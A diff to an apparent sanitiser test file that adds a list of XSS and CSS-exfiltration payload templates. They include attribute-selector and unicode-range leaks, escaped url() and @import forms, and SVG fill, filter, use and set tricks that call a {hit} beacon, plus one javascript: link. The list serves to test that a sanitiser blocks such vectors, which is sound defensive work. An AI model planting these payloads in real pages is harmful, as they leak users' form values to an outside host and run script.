@@ -472,5 +472,38 @@ export function xssVectors(beacon: string): XssVector[] {
     '<style>p{background:u\\72l({hit}&by=review-escaped-url)}</style><p>x</p>',
   ])
     add('review findings', template);
+
+  // Stylesheets the sanitiser now keeps rather than drops whole (escapes are read, not refused), and
+  // what presentation attributes and SVG sprites may carry now that they stay (issue 34): the
+  // exfiltration shapes of PortSwigger's and Cure53's CSS write-ups (attribute selectors, per-letter
+  // unicode-range fonts), @import chains, every image function, url( spelled with escapes.
+  for (const template of [
+    '<style>input[value^="a"]{background:url("{hit}&by=attr-a")}input[value^="b"]{background:u\\72l({hit}&by=attr-b)}</style><input value="abc">',
+    '<style>@font-face{font-family:u{id};src:url({hit}&by=range-a);unicode-range:U+0061}@font-face{font-family:u{id};src:url("{hit}&by=range-b") format("woff");unicode-range:U+0062}p{font-family:u{id}}</style><p>ab</p>',
+    '<style>@import url("data:text/css,@import url(%22{hit}&by=import-chain%22);");</style>',
+    '<style>@\\69mport "{hit}&by=import-escaped";</style>',
+    '<style>@import "{hit}&by=import-layer" layer(x);p{color:red}</style><p>x</p>',
+    '<style>p{background:-webkit-image-set(url("{hit}&by=webkit-image-set") 1x)}</style><p>x</p>',
+    '<style>p{background:image-set("{hit}&by=image-set-string" type("image/png"))}</style><p>x</p>',
+    '<style>p{background:cross-fade(url("{hit}&by=cross-fade"),url(x),50%)}</style><p>x</p>',
+    '<style>p{background:src("{hit}&by=src-function")}</style><p>x</p>',
+    '<style>p{background:\\75\\72\\6c("{hit}&by=hex-escapes")}</style><p>x</p>',
+    '<style>p{background:URL(  {hit}&by=upper-case  )}</style><p>x</p>',
+    '<style>.icon:before{content:"\\e900"}p{background:url(\'{hit}&by=beside-escapes\')}</style><p class="icon">x</p>',
+    '<style>p{--x:u\\72l({hit}&by=escaped-var)}p{background:var(--x)}</style><p>x</p>',
+    '<p style="background:u\\72l({hit}&amp;by=attr-escape)">x</p>',
+    '<svg width="40" height="40"><rect width="40" height="40" fill="url({hit}&amp;by=fill#g)"/></svg>',
+    '<svg width="40" height="40"><rect width="40" height="40" stroke="url(\'{hit}&amp;by=stroke#g\')"/></svg>',
+    '<svg width="40" height="40"><rect width="40" height="40" filter="url({hit}&amp;by=filter-attr#f)"/></svg>',
+    '<svg width="40" height="40"><rect width="40" height="40" mask="url({hit}&amp;by=mask-attr#m)"/></svg>',
+    '<svg width="40" height="40"><rect width="40" height="40" clip-path="url({hit}&amp;by=clip-attr#c)"/></svg>',
+    '<svg width="40" height="40"><path d="M0 0L40 40" marker-end="url({hit}&amp;by=marker#m)"/></svg>',
+    '<svg width="40" height="40" cursor="url({hit}&amp;by=cursor-attr),auto"><rect width="40" height="40"/></svg>',
+    '<svg width="40" height="40"><use href="{hit}&amp;by=use-remote#i"/><use xlink:href="//127.0.0.1:9/by-use-relative#i"/></svg>',
+    '<svg width="40" height="40"><defs><symbol id="s{id}" viewBox="0 0 10 10"><image href="{hit}&amp;by=symbol-image"/></symbol></defs><use href="#s{id}"/></svg>',
+    '<svg width="40" height="40"><defs><symbol id="t{id}"><a href="javascript:{js}"><rect width="10" height="10"/></a></symbol></defs><use href="#t{id}"/></svg>',
+    '<svg width="40" height="40"><use href="#u{id}"/><g id="u{id}"><set attributeName="href" to="{hit}&amp;by=use-set"/></g></svg>',
+  ])
+    add('stylesheets and presentation', template);
   return vectors;
 }
